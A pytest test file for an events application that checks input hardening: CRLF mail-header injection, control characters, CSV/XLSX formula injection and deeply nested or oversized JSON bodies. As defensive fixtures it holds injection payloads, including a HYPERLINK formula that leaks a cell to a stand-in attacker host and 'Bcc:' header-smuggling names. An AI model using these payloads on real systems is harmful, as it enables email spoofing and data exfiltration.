"""Input that cannot break output, against the real stack (PostgreSQL, Redis, a Celery worker, the SMTP sink):
control characters in names, titles and subjects are refused with 422 naming the field at every way in (API and
pages), repaired in imported files and in stored data; mail headers hold whatever is stored; exports keep typed
text from becoming formulas; nested or oversized JSON answers 400/413, never 500."""

from __future__ import annotations

import csv
import email
import email.policy
import importlib
import io
import json
import re
import uuid

import openpyxl
import pytest

from events_app.db import sql
from events_app.db.engine import DB
from tests.agenda_fixtures import congress, session_body
from tests.fixtures import published_event, wait_for_mail

TOKEN_RE = re.compile(r'name="_csrf_token" value="([^"]+)"')
CRLF_NAME = "Ana Lima\r\nBcc: everyone@example.org"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&B2,"Ana")'


async def csrf(client, url: str) -> str:
    response = await client.get(url)
    assert response.status_code == 200, response.text
    return TOKEN_RE.search(response.text).group(1)


def registrant(name: str = "Ana Lima", **extra) -> dict:
    return {
        "email": f"ana-{uuid.uuid4().hex[:6]}@example.org",
        "name": name,
        "category": "delegate",
        "consent": True,
        **extra,
    }


def fields_of(response) -> list[str]:
    return [e["field"] for e in response.json()["errors"]]


async def organization(name: str = "City of Recife") -> int:
    return await sql.fetchval(
        "INSERT INTO organization (name, kind, country, membership_status, created_at)"
        " VALUES ($1, 'city', 'BR', 'active', now()) RETURNING id",
        name,
    )


# --------------------------------------------------------------------------- refused at every way in


@pytest.mark.parametrize(
    "bad", ["\r\n", "\n", "\r", "\x00", "\t", "\x1b", "\u2028", "\x85", "\u202e", "\u202a", "\u2066", "\u2069"]
)
async def test_registration_name_with_control_character_is_refused(client, organizer, bad):
    event = await published_event(client, organizer)
    response = await client.post(f"/api/events/{event['id']}/registrations", json=registrant(f"Ana{bad}Lima"))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert fields_of(response) == ["name"]
    assert "single line" in response.json()["errors"][0]["message"]
    assert await sql.fetchval("SELECT count(*) FROM person") == 0
    assert await sql.fetchval("SELECT count(*) FROM registration") == 0


async def test_right_to_left_marks_in_a_name_are_kept(client, organizer):
    # an Arabic name with a left-to-right mark around a Latin part, as keyboards and word processors write it
    event = await published_event(client, organizer)
    name = "\u0644\u064a\u0644\u0649 \u200eLayla\u200e"
    response = await client.post(f"/api/events/{event['id']}/registrations", json=registrant(name))
    assert response.status_code == 201, response.text
    assert await sql.fetchval("SELECT name FROM person") == name


async def test_registration_name_is_trimmed_and_nfc_normalised(client, organizer):
    event = await published_event(client, organizer)
    response = await client.post(f"/api/events/{event['id']}/registrations", json=registrant("  Jose\u0301 Lima "))
    assert response.status_code == 201, response.text
    assert await sql.fetchval("SELECT name FROM person") == "José Lima"


async def test_registration_page_with_control_character_shows_the_error_next_to_the_name(client, organizer):
    event = await published_event(client, organizer)
    url = f"/events/{event['id']}/register"
    token = await csrf(client, url)
    response = await client.post(
        url,
        data={
            "_csrf_token": token,
            "name": CRLF_NAME,
            "email": "ana@example.org",
            "category": "delegate",
            "language": "en",
            "consent": "yes",
        },
    )
    assert response.status_code == 422
    assert 'id="f-name-error"' in response.text and "single line" in response.text
    assert await sql.fetchval("SELECT count(*) FROM person") == 0


async def test_registration_and_manage_pages_say_the_services_refusals_in_spanish(client, organizer):
    event = await published_event(client, organizer)
    url = f"/events/{event['id']}/register"
    client.cookies.set("lang", "es")
    form = {"name": "Inés García", "email": "ines@example.org", "category": "delegate", "language": "es"}
    form["consent"] = "yes"
    first = await client.post(url, data={**form, "_csrf_token": await csrf(client, url)}, follow_redirects=False)
    assert first.status_code == 303, first.text
    manage = first.headers["location"].split("?")[0]
    again = await client.post(url, data={**form, "_csrf_token": await csrf(client, url)})
    assert "Esta dirección de correo ya está inscrita" in again.text or "ya está inscrita en este evento" in again.text
    assert "already registered" not in again.text
    wrong_code = {**form, "email": "otra@example.org", "access_code": "NOPE"}
    code = await client.post(url, data={**wrong_code, "_csrf_token": await csrf(client, url)})
    assert "Este código de acceso no es válido" in code.text and "unknown access code" not in code.text
    token = await csrf(client, manage)
    await client.post(manage + "/cancel", data={"_csrf_token": token}, follow_redirects=False)
    answers = await client.post(manage + "/answers", data={"_csrf_token": token})
    assert "can no longer be changed" not in answers.text


async def test_registration_page_error_is_in_spanish(client, organizer):
    event = await published_event(client, organizer)
    url = f"/events/{event['id']}/register"
    client.cookies.set("lang", "es")
    token = await csrf(client, url)
    response = await client.post(
        url,
        data={
            "_csrf_token": token,
            "name": CRLF_NAME,
            "email": "ana@example.org",
            "category": "delegate",
            "language": "es",
            "consent": "yes",
        },
    )
    assert response.status_code == 422
    assert "una sola línea" in response.text


async def test_answer_with_control_character_is_refused(client, organizer):
    event = await published_event(client, organizer)
    await client.post(
        f"/api/events/{event['id']}/questions",
        headers=organizer,
        json={"code": "role", "label": "Your role", "kind": "short_text"},
    )
    response = await client.post(
        f"/api/events/{event['id']}/registrations", json=registrant(answers={"role": "Mayor\r\n=cmd"})
    )
    assert response.status_code == 422, response.text
    assert fields_of(response) == ["answers.role"]


async def _entry_points(client, organizer) -> list[tuple[str, str, str, dict, str]]:
    """(method, path, field, body, expected error field) for organizer-side ways in."""
    event = await published_event(client, organizer)
    c = await congress(client, organizer, title="Congress of Cities")
    org = await organization()
    project = (await client.post("/api/projects", headers=organizer, json={"title": "Circular cities"})).json()
    await client.post(f"/api/projects/{project['id']}/members", headers=organizer, json={"organization_id": org})
    series = await client.post(
        f"/api/projects/{project['id']}/series",
        headers=organizer,
        json={
            "title": "Monthly call",
            "mode": "online",
            "timezone": "UTC",
            "start": "2027-03-02T12:00:00",
            "duration_minutes": 60,
            "online_url": "https://meet.example.org/x",
        },
    )
    assert series.status_code == 201, series.text
    session = (await client.post(f"{c['base']}/sessions", headers=organizer, json=session_body(c))).json()
    e, base = event["id"], c["base"]
    return [
        ("POST", "/api/events", {**_event(), "title": "Forum\r\nBcc: x@example.org"}, "title"),
        ("PATCH", f"/api/events/{e}", {"organizer_name": "Secretariat\nX-Evil: 1"}, "organizer_name"),
        ("PATCH", f"/api/events/{e}", {"venue_name": "Hall\x00"}, "venue_name"),
        ("PATCH", f"/api/events/{e}", {"description": "fine\nlines\x1b[31m"}, "description"),
        ("POST", f"/api/events/{e}/categories", {"code": "press", "name": "Press\r\n"}, "name"),
        ("POST", f"/api/events/{e}/questions", {"code": "q", "label": "Label\n2", "kind": "short_text"}, "label"),
        (
            "POST",
            f"/api/events/{e}/questions",
            {"code": "q", "label": "Choose", "kind": "single_choice", "options": ["a", "b\r\nc"]},
            "options[1]",
        ),
        (
            "POST",
            f"/api/events/{e}/invitations",
            {"email": "guest@example.org", "category": "delegate", "name": "Guest\r\nBcc: x@example.org"},
            "name",
        ),
        (
            "POST",
            f"/api/events/{e}/delegations",
            {
                "organization_id": org,
                "category": "delegate",
                "seats": 2,
                "head_email": "head@example.org",
                "head_name": "Head\nBcc: x@example.org",
            },
            "head_name",
        ),
        (
            "POST",
            f"/api/events/{e}/announcements",
            {"subject": "News\r\nBcc: all@example.org", "body": "Hello", "audience": {"kind": "confirmed"}},
            "subject",
        ),
        ("POST", f"{base}/rooms", {"name": "Room\r\n9"}, "name"),
        ("POST", f"{base}/tracks", {"name": "Track\n", "color": "#123456"}, "name"),
        ("POST", f"{base}/sessions", session_body(c, title="Opening\r\nplenary"), "title"),
        (
            "POST",
            f"{base}/sessions",
            session_body(c, people=[{"email": "s@example.org", "name": "Speaker\r\nX"}]),
            "people[0].name",
        ),
        ("PATCH", f"{base}/sessions/{session['id']}", {"title": "Moved\u2028title"}, "title"),
        ("POST", f"{base}/sessions/{session['id']}/people", {"email": "p@example.org", "name": "P\nQ"}, "name"),
        ("POST", "/api/projects", {"title": "Project\r\nX"}, "title"),
        (
            "POST",
            f"/api/projects/{project['id']}/contacts",
            {"organization_id": org, "email": "c@example.org", "name": "Contact\r\nBcc: x@example.org"},
            "name",
        ),
        (
            "POST",
            f"/api/projects/{project['id']}/series",
            {
                "title": "Call",
                "mode": "online",
                "timezone": "UTC",
                "start": "2027-03-02T12:00:00",
                "duration_minutes": 60,
                "agenda": [{"title": "Item\r\n1"}],
            },
            "agenda[0].title",
        ),
        ("PATCH", f"/api/meeting-series/{series.json()['id']}", {"title": "Call\nX"}, "title"),
    ]


def _event() -> dict:
    from tests.fixtures import event_body

    return event_body()


async def test_every_organizer_way_in_refuses_control_characters_naming_the_field(client, organizer):
    cases = await _entry_points(client, organizer)
    before = await sql.fetchval("SELECT count(*) FROM audit_log")
    results = []
    for method, path, body, field in cases:
        response = await client.request(method, path, json=body, headers=organizer)
        results.append(
            (
                method,
                path,
                field,
                response.status_code,
                fields_of(response) if response.status_code >= 400 else response.text[:80],
            )
        )
    assert [r for r in results if r[3] != 422 or r[4] != [r[2]]] == []
    assert await sql.fetchval("SELECT count(*) FROM audit_log") == before  # nothing half-written


async def test_organizer_page_event_form_shows_the_error_next_to_the_title(client, organizer):
    from tests.integration.web.test_pages import page_login

    await page_login(client, "pages@example.org")
    token = await csrf(client, "/organizer/events/new")
    body = _event()
    response = await client.post(
        "/organizer/events/new",
        data={
            "_csrf_token": token,
            **{k: v for k, v in body.items() if isinstance(v, str)},
            "title": "Forum\r\nBcc: x@example.org",
            "starts_at": body["starts_at"][:16],
            "ends_at": body["ends_at"][:16],
        },
    )
    assert response.status_code == 422, response.text[:300]
    assert 'id="f-title-error"' in response.text
    assert await sql.fetchval("SELECT count(*) FROM event") == 0


# --------------------------------------------------------------------------- imports are repaired


async def test_schedule_import_with_control_characters_is_repaired(client, organizer):
    c = await congress(client, organizer)
    schedule = {
        "schedule": {
            "version": "1",
            "conference": {
                "acronym": "cities",
                "title": "Cities",
                "time_zone_name": "Asia/Seoul",
                "start": "2027-10-29",
                "end": "2027-10-29",
                "rooms": [{"name": "Hall\r\nA"}],
                "tracks": [{"name": "Water\x00", "color": "#123456"}],
                "days": [
                    {
                        "index": 1,
                        "date": "2027-10-29",
                        "rooms": {
                            "Hall\r\nA": [
                                {
                                    "guid": str(uuid.uuid4()),
                                    "id": 1,
                                    "title": "Opening\r\nBcc: x@example.org",
                                    "date": "2027-10-29T10:00:00+09:00",
                                    "duration": "01:00",
                                    "room": "Hall\r\nA",
                                    "track": "Water\x00",
                                    "type": "talk",
                                    "language": "en",
                                    "abstract": "line one\r\nline two\x1b",
                                    "persons": [
                                        {"guid": str(uuid.uuid4()), "name": "Kwame\nMensah", "role": "speaker"}
                                    ],
                                }
                            ]
                        },
                    }
                ],
            },
        }
    }
    response = await client.post(
        f"{c['base']}/schedule/import",
        content=json.dumps(schedule).encode(),
        headers={**organizer, "Content-Type": "application/json"},
    )
    assert response.status_code == 200, response.text
    row = await sql.fetchrow(
        "SELECT s.title, s.abstract, r.name AS room, t.name AS track FROM agenda_session s"
        " JOIN agenda_room r ON r.id = s.room JOIN agenda_track t ON t.id = s.track"
    )
    assert dict(row) == {
        "title": "Opening Bcc: x@example.org",
        "abstract": "line one\nline two",
        "room": "Hall A",
        "track": "Water",
    }
    assert await sql.fetchval("SELECT name FROM person WHERE email LIKE '%@speakers.invalid'") == "Kwame Mensah"


# --------------------------------------------------------------------------- stored values are repaired


async def test_migration_repairs_stored_values_with_control_characters(client, organizer):
    migration = importlib.import_module("migrations.events.events_2026_12_04t17_10_00_000000")
    event = await published_event(client, organizer)
    await client.post(f"/api/events/{event['id']}/registrations", json=registrant())
    await sql.execute("UPDATE person SET name = $1", "Ana\r\nBcc: x@example.org\u2028")
    await sql.execute(
        "UPDATE event SET title = $1, description = $2, organizer_name = $3",
        "Forum\nTitle",
        "one\r\ntwo\x1bthree",
        "Secretariat\r\n",
    )
    await sql.execute("UPDATE registration_category SET name = 'Delegate\x85'")
    async with DB.transaction():
        await migration.repair_stored_text()
    assert await sql.fetchval("SELECT name FROM person") == "Ana Bcc: x@example.org"
    assert dict(await sql.fetchrow("SELECT title, description, organizer_name FROM event")) == {
        "title": "Forum Title",
        "description": "one\ntwo three",
        "organizer_name": "Secretariat",
    }
    assert await sql.fetchval("SELECT name FROM registration_category") == "Delegate"


# --------------------------------------------------------------------------- mail headers


async def test_stored_name_with_line_breaks_cannot_break_the_mail_headers(client, organizer, maildir, tmp_path):
    """A person and event stored before the rule (CR/LF in name, title, organizer name): the worker's message
    still has exactly its own header fields, and reaches the person."""
    from events_app.jobs import DISPATCH_OUTBOX, send_now
    from tests.fixtures import start_worker, stop

    event = await published_event(client, organizer)
    body = registrant()
    response = await client.post(f"/api/events/{event['id']}/registrations", json=body)
    assert response.status_code == 201, response.text
    await sql.execute("UPDATE person SET name = $1", "Ana\r\nBcc: victim@example.org\r\n\r\n<b>injected</b>")
    await sql.execute(
        "UPDATE event SET title = $1, organizer_name = $2",
        "Forum\r\nX-Injected: 1",
        "Secretariat\r\nReply-To: evil@example.org",
    )
    worker = start_worker(tmp_path / "worker.log")
    try:
        send_now(DISPATCH_OUTBOX)
        [message] = wait_for_mail(maildir, body["email"], 1)
    finally:
        stop(worker)
    raw = message.path.read_bytes()
    parsed = email.message_from_bytes(raw, policy=email.policy.default)
    assert parsed["Bcc"] is None and parsed["X-Injected"] is None and parsed["Reply-To"] is None
    assert parsed["To"].addresses[0].addr_spec == body["email"] and len(parsed["To"].addresses) == 1
    assert parsed["From"].addresses[0].display_name == "Secretariat Reply-To: evil@example.org"
    assert "X-Injected: 1" in str(parsed["Subject"]) and "\n" not in str(parsed["Subject"])
    assert b"\r\n\r\n<b>injected</b>" not in raw


# --------------------------------------------------------------------------- exports keep text as text


async def _formula_registrations(client, organizer) -> dict:
    event = await published_event(client, organizer)
    await client.post(
        f"/api/events/{event['id']}/questions",
        headers=organizer,
        json={"code": "role", "label": "Role", "kind": "short_text"},
    )
    for name, role in ((FORMULA_NAME, "+1+1"), ("@SUM(1)", "-2"), ("Ana Lima", "Mayor")):
        r = await client.post(f"/api/events/{event['id']}/registrations", json=registrant(name, answers={"role": role}))
        assert r.status_code == 201, r.text
    return event


async def test_registration_csv_export_neutralises_formulas(client, organizer):
    event = await _formula_registrations(client, organizer)
    response = await client.get(f"/api/events/{event['id']}/registrations/export.csv", headers=organizer)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted((r["name"], r["answer: role"]) for r in rows) == [
        ('\'=HYPERLINK("https://evil.example/?leak="&B2,"Ana")', "'+1+1"),
        ("'@SUM(1)", "'-2"),
        ("Ana Lima", "Mayor"),
    ]


async def test_registration_xlsx_export_has_no_formula_cells(client, organizer):
    event = await _formula_registrations(client, organizer)
    response = await client.get(f"/api/events/{event['id']}/registrations/export.xlsx", headers=organizer)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) for c in cells)
    names = sorted(sheet.cell(row=r, column=2).value for r in range(2, sheet.max_row + 1))
    assert names == ['\'=HYPERLINK("https://evil.example/?leak="&B2,"Ana")', "'@SUM(1)", "Ana Lima"]


async def test_registration_export_page_neutralises_formulas(client, organizer):
    from tests.integration.web.test_pages import page_login

    event = await _formula_registrations(client, organizer)
    await page_login(client, "pages@example.org")
    await sql.execute(
        "INSERT INTO event_organizer (event, account, role) SELECT $1, id, 'organizer' FROM account"
        " WHERE email = 'pages@example.org'",
        event["id"],
    )
    response = await client.get(f"/organizer/events/{event['id']}/registrations/export/xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    csv_page = await client.get(f"/organizer/events/{event['id']}/registrations/export/csv")
    assert "'=HYPERLINK(" in csv_page.content.decode("utf-8-sig")


async def test_attendance_csv_neutralises_organization_names(client, organizer):
    org = await organization("=1+2")
    project = (await client.post("/api/projects", headers=organizer, json={"title": "Circular cities"})).json()
    member = await client.post(
        f"/api/projects/{project['id']}/members",
        headers=organizer,
        json={"organization_id": org, "contacts": [{"email": "c@example.org", "name": "Contact"}]},
    )
    assert member.status_code == 200, member.text
    series = (
        await client.post(
            f"/api/projects/{project['id']}/series",
            headers=organizer,
            json={
                "title": "Call",
                "mode": "online",
                "timezone": "UTC",
                "start": "2027-03-02T12:00:00",
                "duration_minutes": 60,
                "online_url": "https://meet.example.org/x",
            },
        )
    ).json()
    response = await client.get(f"/api/meeting-series/{series['id']}/attendance.csv", headers=organizer)
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[1][1] == "'=1+2"


# --------------------------------------------------------------------------- nested and oversized JSON


def nested(kind: str, depth: int = 10_000) -> str:
    return ("[" * depth + "]" * depth) if kind == "array" else ('{"a":' * depth + "1" + "}" * depth)


@pytest.mark.parametrize("kind", ["array", "object"])
async def test_deeply_nested_registration_answers_answer_400_naming_the_field(client, organizer, kind):
    event = await published_event(client, organizer)
    body = json.dumps(registrant())[:-1] + ', "answers": {"role": ' + nested(kind) + "}}"
    response = await client.post(
        f"/api/events/{event['id']}/registrations", content=body, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 400, response.text[:300]
    assert fields_of(response) == ["answers"]
    assert "nested" in response.json()["detail"]
    assert await sql.fetchval("SELECT count(*) FROM registration") == 0


@pytest.mark.parametrize("kind", ["array", "object"])
async def test_deeply_nested_json_on_other_routes_answers_400(client, organizer, kind):
    event = await published_event(client, organizer)
    token = (await client.post(f"/api/events/{event['id']}/registrations", json=registrant())).json()["manage_token"]
    c = await congress(client, organizer, title="Congress of Cities")
    for method, path, body, headers in [
        ("POST", "/api/events", '{"title": ' + nested(kind) + "}", organizer),
        ("PUT", f"/api/registrations/{token}/answers", '{"answers": {"x": ' + nested(kind) + "}}", {}),
        ("POST", f"{c['base']}/sessions", nested(kind), organizer),
        ("POST", f"{c['base']}/schedule/import", '{"schedule": ' + nested(kind) + "}", organizer),
    ]:
        response = await client.request(
            method, path, content=body, headers={**headers, "Content-Type": "application/json"}
        )
        assert response.status_code == 400, (path, response.status_code, response.text[:300])
        assert response.headers["content-type"].startswith("application/problem+json")


async def test_schedule_import_nested_json_without_json_content_type_answers_400(client, organizer):
    c = await congress(client, organizer)
    response = await client.post(
        f"{c['base']}/schedule/import",
        content=nested("array").encode(),
        headers={**organizer, "Content-Type": "text/plain"},
    )
    assert response.status_code in (400, 422), response.text[:300]


async def test_json_that_is_not_utf8_answers_400_on_every_anonymous_route(client, organizer):
    event = await published_event(client, organizer)
    routes = (
        f"/api/events/{event['id']}/registrations",
        f"/api/events/{event['id']}/registrations/resend-link",
        "/api/people/access-link",
        "/api/auth/login",
        "/api/auth/password-reset",
    )
    for url in routes:
        response = await client.post(
            url, content=b'{"email": "\xff\xfe@example.org"}', headers={"content-type": "application/json"}
        )
        assert response.status_code == 400, (url, response.text)
        assert response.json()["errors"] == [{"field": "body", "message": "not valid JSON"}]
    assert await sql.fetchval("SELECT count(*) FROM person") == 0


async def test_five_megabyte_body_answers_413(client, organizer):
    event = await published_event(client, organizer)
    body = json.dumps(registrant(answers={"role": "x" * 5_000_000}))
    response = await client.post(
        f"/api/events/{event['id']}/registrations", content=body, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 413, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    assert "larger than 1,000,000 bytes" in response.json()["detail"]
    assert await sql.fetchval("SELECT count(*) FROM registration") == 0


async def test_five_megabyte_form_on_a_page_answers_413(client, organizer):
    event = await published_event(client, organizer)
    url = f"/events/{event['id']}/register"
    token = await csrf(client, url)
    response = await client.post(
        url, data={"_csrf_token": token, "name": "x" * 5_000_000, "email": "ana@example.org", "category": "delegate"}
    )
    assert response.status_code == 413
